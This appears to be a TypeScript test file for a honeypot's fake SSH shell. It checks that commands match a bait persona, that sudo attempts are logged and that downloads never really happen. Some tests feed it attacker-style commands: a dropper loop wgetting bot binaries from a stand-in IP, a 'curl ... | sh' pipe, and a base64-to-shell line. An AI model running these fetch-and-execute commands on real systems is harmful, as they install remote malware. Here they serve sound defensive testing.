// The emulated shell without a transport: what bots type, and hostile input.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import fc from 'fast-check'
import { SeededRng } from '../../../runtime/rng.js'
import type { FieldInput } from '../../../events/event.js'
import { buildPersona } from './persona.js'
import { seedFs } from './seed.js'
import { FakeFs, FS_LIMITS } from './fs.js'
import { newShellState, prompt, runLine } from './interpreter.js'
import { InteractiveShell } from './terminal.js'
import type { ShellState } from './types.js'

function shell(opts: { user?: string; distro?: string; secrets?: string[] } = {}) {
  const rng = SeededRng.forDecky(Buffer.alloc(32, 7), 'decky-x')
  const persona = buildPersona({
    hostname: 'web-01', ip: '192.168.1.50', distro: opts.distro ?? 'debian', rootPassword: 'toor', user: 'ubuntu', userPassword: 'ubuntu1', rng,
  })
  const fs = seedFs(persona, rng)
  const events: [string, Record<string, FieldInput>][] = []
  const secrets = [...(opts.secrets ?? [])]
  const user = persona.users.find((u) => u.name === (opts.user ?? 'root'))!
  const sh = newShellState({
    fs, persona, user, interactive: false,
    host: {
      emit: (type, fields) => events.push([type, fields]), peerIp: '203.0.113.9', peerPort: 40000, localPort: 22, service: 'ssh', tty: '/dev/pts/0',
      readSecret: opts.secrets ? async () => secrets.shift() : undefined,
    },
  })
  const run = async (line: string) => {
    let out = ''
    const code = await runLine(sh, line, { out: (s) => (out += s), err: (s) => (out += s) })
    return { out, code }
  }
  return { sh, run, events }
}

test('shell: identity commands agree with the persona', async () => {
  const { run } = shell({ distro: 'ubuntu22' })
  assert.equal((await run('uname -a')).out, 'Linux web-01 5.15.0-112-generic #122-Ubuntu SMP Thu May 23 07:48:21 UTC 2024 x86_64 GNU/Linux\n')
  assert.equal((await run('uname -r')).out, '5.15.0-112-generic\n')
  assert.equal((await run('grep PRETTY /etc/os-release')).out, 'PRETTY_NAME="Ubuntu 22.04.4 LTS"\n')
  assert.equal((await run('cat /etc/hostname')).out, 'web-01\n')
  assert.match((await run('ip a')).out, /inet 192\.168\.1\.50\/24/)
  assert.match((await run('ifconfig')).out, /inet 192\.168\.1\.50 {2}netmask/)
  assert.match((await run('cat /etc/passwd')).out, /^ubuntu:x:1000:1000:/m)
})

test('shell: lists, pipes, redirections and substitutions', async () => {
  const { run, sh } = shell()
  assert.deepEqual(await run('cd /tmp && echo a b > f; echo c >> f; cat f | wc -l'), { out: '2\n', code: 0 })
  assert.equal(sh.cwd, '/tmp')
  assert.equal((await run('cat /proc/cpuinfo | grep "model name" | wc -l')).out, `${sh.persona.cores}\n`)
  assert.equal((await run('echo "$(whoami)@$(hostname)" $HOME')).out, 'root@web-01 /root\n')
  assert.equal((await run('false || echo fallback; true && echo yes')).out, 'fallback\nyes\n')
  assert.equal((await run('echo aWQ= | base64 -d | sh')).out, 'uid=0(root) gid=0(root) groups=0(root)\n')
  assert.equal((await run('ls /nonexistent 2>/dev/null; echo $?')).out, '2\n')
  assert.equal((await run('touch a.sh b.sh c.txt; ls *.sh')).out, 'a.sh\nb.sh\n')
  assert.deepEqual(await run('foo'), { out: '-bash: foo: command not found\n', code: 127 })
  assert.deepEqual(await run('cd /nope'), { out: '-bash: cd: /nope: No such file or directory\n', code: 1 })
  assert.equal((await run('echo "unterminated')).code, 2)
  assert.equal((await run('X=5; echo $X; export Y=6; echo ${Y}')).out, '5\n6\n')
})

test('shell: dropper-script control flow (if/for/while, test, comments) runs bounded', async () => {
  const { run, events } = shell()
  const script = [
    '#!/bin/sh',
    'cd /tmp || cd /var/run  # pick a writable dir',
    'for a in x86 arm7 mips; do',
    '  wget http://198.51.100.9/bins/bot.$a -O .b; chmod +x .b',
    'done',
    'if [ -f /etc/passwd ] && [ ! -d /nope ]; then echo linux; elif true; then echo other; else echo none; fi',
    'n=0; while true; do echo tick; break; done',
    'for i in 1 2 3; do if [ $i -eq 2 ]; then continue; fi; echo i$i; done',
    'until false; do echo spin; done | wc -l',
  ].join('\n')
  const r = await run(script)
  assert.equal(r.out.split('\n').filter((l) => !l.startsWith('--') && !l.startsWith('Connecting') && !l.startsWith('Retrying') && l !== '').join('|'),
    'linux|tick|i1|i3|' + Array(64).fill('spin').join('|'))
  assert.deepEqual(events.filter(([t]) => t === 'download_attempt').map(([, f]) => f.url), ['x86', 'arm7', 'mips'].map((a) => `http://198.51.100.9/bins/bot.${a}`))
  assert.equal((await run('if true; then echo')).code, 2)
})

test('shell: the bait user cannot read root files; sudo asks, logs and grants', async () => {
  const { run, sh, events } = shell({ user: 'ubuntu', secrets: ['wrong', 'ubuntu1'] })
  assert.equal(prompt(sh), 'ubuntu@web-01:~$ ')
  assert.equal((await run('cat /etc/shadow')).out, 'cat: /etc/shadow: Permission denied\n')
  assert.equal((await run('ls /root')).out, "ls: cannot open directory '/root': Permission denied\n")
  const r = await run('sudo cat /root/notes.txt')
  assert.equal(r.out, 'Sorry, try again.\n# TODO: migrate DB to new server\n# TODO: check cron jobs\n# TODO: update SSL cert\n')
  const auths = events.filter(([t]) => t === 'auth_attempt').map(([, f]) => [f.method, f.username, f.secret_printable, f.outcome])
  assert.deepEqual(auths, [['sudo', 'ubuntu', 'wrong', 'failure'], ['sudo', 'ubuntu', 'ubuntu1', 'success']])
  assert.equal(sh.user.name, 'ubuntu')
  await run('sudo su')
  assert.equal(sh.user.name, 'root')
  assert.equal(prompt(sh), 'root@web-01:~# ')
  await run('exit')
  assert.equal(sh.user.name, 'ubuntu')
})

test('shell: sudo without a terminal fails like sudo does', async () => {
  const { run } = shell({ user: 'ubuntu' })
  const r = await run('sudo id')
  assert.equal(r.code, 1)
  assert.match(r.out, /a terminal is required/)
})

test('shell: wget and curl never fetch, log the URL and fail believably', async () => {
  const { run, events } = shell()
  const w = await run('wget http://malware.example/bot.sh -O /tmp/b')
  assert.equal(w.code, 4)
  assert.match(w.out, /Resolving malware\.example \(malware\.example\)\.\.\. failed: Temporary failure in name resolution\./)
  const c = await run('curl -s http://198.51.100.7:8080/x | sh')
  assert.equal(c.out, '')
  const c2 = await run('curl http://bad.example/y')
  assert.deepEqual(c2, { out: 'curl: (6) Could not resolve host: bad.example\n', code: 6 })
  const urls = events.filter(([t]) => t === 'download_attempt').map(([, f]) => [f.tool, f.url])
  assert.deepEqual(urls, [['wget', 'http://malware.example/bot.sh'], ['curl', 'http://198.51.100.7:8080/x'], ['curl', 'http://bad.example/y']])
})

test('shell: the terminal echoes, edits, handles Ctrl-C/Ctrl-D and emits one command per line', async () => {
  const { sh, events } = shell()
  let out = ''
  let ended: number | undefined
  const term = new InteractiveShell(sh, { write: (s) => (out += s), end: (c) => (ended = c) }, 1024)
  term.start('')
  term.feed(Buffer.from('whoamx\x7fi\r'))
  await new Promise((r) => setTimeout(r, 20))
  term.feed(Buffer.from('echo abc\x03'))
  term.feed(Buffer.from('pwd\r'))
  await new Promise((r) => setTimeout(r, 20))
  assert.equal(out, 'root@web-01:~# whoamx\b \bi\r\nroot\r\nroot@web-01:~# echo abc^C\r\nroot@web-01:~# pwd\r\n/root\r\nroot@web-01:~# ')
  term.feed(Buffer.from([0x04]))
  assert.equal(ended, 0)
  assert.deepEqual(events.filter(([t]) => t === 'command').map(([, f]) => f.cmd), ['whoami', 'pwd'])
})

test('shell: the filesystem is bounded (ENOSPC like a full disk)', async () => {
  const { sh: base } = shell()
  const fs = new FakeFs({ ...FS_LIMITS, maxBytes: 1024 * 1024 })
  fs.mkdir('/tmp')
  fs.chmod('/tmp', 0o1777)
  const sh = newShellState({ fs, persona: base.persona, user: base.user, host: base.host, interactive: false })
  sh.cwd = '/tmp'
  const big = 'x'.repeat(60_000)
  let r = { out: '', code: 0 }
  for (let i = 0; i < 40 && r.code === 0; i++) {
    let out = ''
    const code = await runLine(sh, `echo ${big} >> fill`, { out: (s) => (out += s), err: (s) => (out += s) })
    r = { out, code }
  }
  assert.deepEqual(r, { out: '-bash: echo: write error: No space left on device\n', code: 1 })
  assert.ok(fs.usedBytes <= 1024 * 1024)
})

test('shell: any input line ends in an answer, never an exception', async () => {
  const { run } = shell()
  const alphabet = fc.constantFrom(...'ab $(){}`\'"\\|&;<>*?~/.-=\n#!0123'.split(''))
  await fc.assert(
    fc.asyncProperty(fc.array(alphabet, { maxLength: 80 }).map((a) => a.join('')), async (line) => {
      const r = await run(line)
      assert.equal(typeof r.code, 'number')
    }),
    { numRuns: 300 },
  )
})

export type { ShellState }
